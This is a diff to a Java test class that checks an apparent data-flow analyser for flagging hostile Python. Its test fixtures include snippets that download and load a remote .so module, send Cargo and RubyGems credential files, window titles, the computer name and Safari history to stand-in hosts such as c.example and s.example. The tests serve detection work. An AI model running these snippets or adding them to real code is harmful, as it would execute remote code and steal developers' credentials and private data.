@@ -125,6 +125,19 @@ class DataFlowTest {
     }
 
     @Test
+    void aDownloadWrittenToANamedTemporaryFileIsAtItsName() {
+      assertThat(
+              reached(
+                  "imports-fetched",
+                  lines(
+                      "import importlib.machinery, tempfile, urllib.request",
+                      "with tempfile.NamedTemporaryFile(suffix='.so', delete=False) as f:",
+                      "    f.write(urllib.request.urlopen('https://x.example/m.so').read())",
+                      "importlib.machinery.ExtensionFileLoader('m', f.name).load_module()")))
+          .contains(4);
+    }
+
+    @Test
     void forgetsANameAssignedAgainFromSomethingElse() {
       assertThat(
               reached(
@@ -550,22 +563,63 @@ class DataFlowTest {
     }
 
     @Test
+    void packageManagersTokensAndWindowTitlesAreSecrets() {
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import http.client, json",
+                      "from pathlib import Path",
+                      "found = {}",
+                      "for rel in ['.cargo/credentials.toml', '.gem/credentials']:",
+                      "    found[rel] = (Path.home() / rel).read_text()",
+                      "c = http.client.HTTPSConnection('c.example')",
+                      "c.request('PUT', '/b', body=json.dumps(found))")))
+          .contains(7);
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import ctypes, urllib.request",
+                      "buf = ctypes.create_unicode_buffer(256)",
+                      "ctypes.windll.user32.GetWindowTextW(HWND, buf, 256)",
+                      "urllib.request.urlopen(URL, data=buf.value.encode())")))
+          .contains(4);
+    }
+
+    @Test
+    void theIdentityInARequestsJoinedAddressIsUploaded() {
+      assertThat(
+              reached(
+                  "identity-uploaded",
+                  lines(
+                      "import ctypes, http.client, urllib.parse",
+                      "buf = ctypes.create_unicode_buffer(256)",
+                      "ctypes.windll.kernel32.GetComputerNameW(buf, ctypes.byref(SIZE))",
+                      "c = http.client.HTTPSConnection('t.example')",
+                      "c.request('GET', '/p?' + urllib.parse.urlencode({'c': buf.value}))")))
+          .contains(5);
+    }
+
+    @Test
     void anotherProgramsApplicationDataIsFollowedLikeItsHiddenFiles() {
       for (String path :
           List.of(
               "os.path.join(os.environ['LOCALAPPDATA'], 'Vendor', 'state.json')",
               "os.path.join(os.getenv('APPDATA'), 'Vendor', 'state.json')",
               "os.path.join(os.environ.get('APPDATA', ''), '.vendor', 'state.json')",
-              "os.path.expanduser('~/Library/Application Support/Vendor/state.json')")) {
+              "os.path.expanduser('~/Library/Application Support/Vendor/state.json')",
+              "Path.home() / 'Library' / 'Safari' / 'History.db'")) {
         assertThat(
                 reached(
                     "sends-home-file",
                     lines(
                         "import os, requests",
+                        "from pathlib import Path",
                         "state = open(" + path + ").read()",
                         "requests.post('https://s.example/u', data=state)")))
             .as(path)
-            .contains(3);
+            .contains(4);
       }
     }
 
